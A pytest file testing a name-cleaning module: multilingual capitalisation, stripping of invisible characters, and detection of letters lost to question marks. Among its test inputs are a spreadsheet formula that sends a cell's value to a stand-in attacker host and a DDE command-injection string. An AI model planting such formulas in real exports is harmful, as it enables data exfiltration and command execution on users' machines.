"""Names are tidied without harm, and lost letters are noticed."""

from __future__ import annotations

import unicodedata

import pytest
from hypothesis import given
from hypothesis import strategies as st

from db.names import clean, could_be, lost_letters, tidy_family, tidy_given

AS_WRITTEN = [
    "McDonald",
    "de la Peña",
    "O",
    "O'Brien",
    "O’Connor",
    "D'Angelo",
    "van der Berg",
    "DeLuca",
    "MacArthur",
    "Rossi-Bianchi",
    "bell hooks",
    "de' Medici",
    "III",
    "J",
    "J.R.",
    "JJ",
    "Lefèvre, PhD",
    "Smith Jr.",
    "Ng",
    "Nguyễn",
    "鈴木",
    "박",
    "الفيصل",
    "Ωmega",
    "Ó Súilleabháin",
    "Renée 🚗",
    "👩‍🚀",
    "می‌خواهم",
    "X Æ A-12",
    "",
]


@pytest.mark.parametrize("name", AS_WRITTEN)
def test_a_name_with_small_letters_stays_as_it_was_written(name: str):
    assert tidy_given(name) == name
    assert tidy_family(name) == name


@pytest.mark.parametrize(
    ("capitals", "written"),
    [
        ("ROSSI", "Rossi"),
        ("HARRIS", "Harris"),
        ("KÜHNERT", "Kühnert"),
        ("JOSÉ", "José"),
        ("MCDONALD", "McDonald"),
        ("MCCOY", "McCoy"),
        ("MACHADO", "Machado"),
        ("O'BRIEN", "O'Brien"),
        ("O’BRIEN", "O’Brien"),
        ("D'ANGELO", "D'Angelo"),
        ("DELL'ACQUA", "Dell'Acqua"),
        ("DELL’ACQUA", "Dell’Acqua"),
        ("SA'AD", "Sa'ad"),
        ("NICCOLO'", "Niccolo'"),
        ("DE LA PEÑA", "de la Peña"),
        ("DE LOS SANTOS", "de los Santos"),
        ("DE LUCA", "De Luca"),
        ("DI STEFANO", "Di Stefano"),
        ("DELLA VALLE", "Della Valle"),
        ("VAN DER BERG", "van der Berg"),
        ("VAN 'T HOFF", "van 't Hoff"),
        ("VON DER LEYEN", "von der Leyen"),
        ("VAN", "Van"),
        ("ORTEGA Y GASSET", "Ortega y Gasset"),
        ("DAS GUPTA", "Das Gupta"),
        ("ROSSI-BIANCHI", "Rossi-Bianchi"),
        ("LEFÈVRE, PHD", "Lefèvre, PhD"),
        ("SMITH JR.", "Smith Jr."),
        ("SMITH III", "Smith III"),
        ("III", "III"),
        ("NG", "Ng"),
        ("LI", "Li"),
        ("O", "O"),
        ("ST. JOHN", "St. John"),
        ("STRAẞE", "Straße"),
        ("ИВАНОВ", "Иванов"),
        ("ΠΑΠΑΔΟΠΟΥΛΟΣ", "Παπαδοπουλος"),
        ("İPEKÇİ", "İpekçi"),
    ],
)
def test_a_family_name_in_capitals_is_written_as_names_are(capitals: str, written: str):
    assert tidy_family(capitals) == written


@pytest.mark.parametrize(
    ("capitals", "written"),
    [
        ("MARIA JOSÉ", "Maria José"),
        ("JEAN-LUC", "Jean-Luc"),
        ("MARIA DE LA LUZ", "Maria de la Luz"),
        ("VAN ANH", "Van Anh"),
        ("JJ", "JJ"),
        ("TJ", "TJ"),
        ("AJ", "AJ"),
        ("J.R.", "J.R."),
        ("J. MICHAEL", "J. Michael"),
        ("JO", "Jo"),
        ("ANN", "Ann"),
    ],
)
def test_a_given_name_in_capitals_is_written_as_names_are(capitals: str, written: str):
    assert tidy_given(capitals) == written


@pytest.mark.parametrize(
    ("typed", "kept"),
    [
        ("  Jesus ", "Jesus"),
        ("Björn\xa0Åke", "Björn Åke"),
        ("Line\nBreak Corp", "Line Break Corp"),
        ("Mar\u200bio", "Mario"),
        ("\ufeffMario", "Mario"),
        ("\u202eoiraM\u202c", "oiraM"),
        ("Ma\x00rio\x07", "Ma rio"),
        ("Mario\u200d", "Mario"),
        ("Jose\u0301", "José"),
        ("\u3164", ""),
        ("\u2800 \u115f", ""),
        ("a\ud800b", "a\ufffdb"),
        ("FCA", "FCA"),
    ],
)
def test_blanks_and_marks_that_nobody_sees_are_tidied(typed: str, kept: str):
    assert clean(typed) == kept


@given(st.text())
def test_tidying_twice_changes_nothing(text: str):
    for tidy in (clean, tidy_given, tidy_family):
        assert tidy(tidy(text)) == tidy(text)


@given(st.text(alphabet=st.characters(codec="utf-8")))
def test_tidied_text_can_be_kept_in_a_file(text: str):
    kept = clean(text)
    kept.encode()
    assert not any(unicodedata.category(char) in ("Cc", "Cs") for char in kept)


@given(st.text(alphabet=st.characters(categories=["Lu", "Ll", "Lo", "Nd", "P", "S"])))
def test_tidying_blanks_loses_no_letter(text: str):
    seen = unicodedata.normalize("NFC", text)
    kept = "".join(char for char in seen if char not in "\u3164\uffa0\u115f\u1160\u2800")
    assert clean(text).replace(" ", "") == kept


@pytest.mark.parametrize(
    "text",
    ["P?rez", "??", "?", "Knia?", "Stanis?awek", "? Dynamics", "Renée ?", "M\ufffdller", "???? ??"],
)
def test_lost_letters_are_noticed(text: str):
    assert lost_letters(text)


@pytest.mark.parametrize(
    "text",
    [
        *("", "Pérez", "Who knows this?", "Do you make gear boxes ?", "R&D!"),
        *(
            "Is it you?! Or is it not??",
            "¿Qué es esto, quién sabe?",
            "See http://list.example/?id=7",
        ),
        *('=HYPERLINK("http://evil.example/?"&A1)', "'+cmd|'/C ?'!A0", "list.example/find?who=ada"),
    ],
)
def test_a_question_is_no_loss(text: str):
    assert not lost_letters(text)


@pytest.mark.parametrize(
    "text", ["=1+\ufffd", "P?rez www.list.example/?a", "Anna? Maria Kowalska?", "-P?rez", "Kova? ?"]
)
def test_beside_a_formula_or_an_address_a_loss_is_one(text: str):
    assert lost_letters(text)


@pytest.mark.parametrize(
    ("damaged", "whole"),
    [
        ("P?rez", "Pérez"),
        ("STANIS?AWEK", "Stanisławek"),
        ("??", "佐藤"),
        ("Renée ?", "Renée 🚗"),
        ("Renée ??", "Renée 🚗"),
        ("M\ufffdller", "Müller"),
        ("? Dynamics  GmbH", "Ξ Dynamics GmbH"),
    ],
)
def test_a_damaged_name_is_known_by_what_is_left_of_it(damaged: str, whole: str):
    assert could_be(damaged, whole)


@pytest.mark.parametrize(
    ("damaged", "whole"),
    [("P?rez", "Perretz"), ("??", "Anna"), ("P.rez", "Perez"), ("P?rez", "Lopez")],
)
def test_a_damaged_name_is_not_taken_for_another(damaged: str, whole: str):
    assert not could_be(damaged, whole)
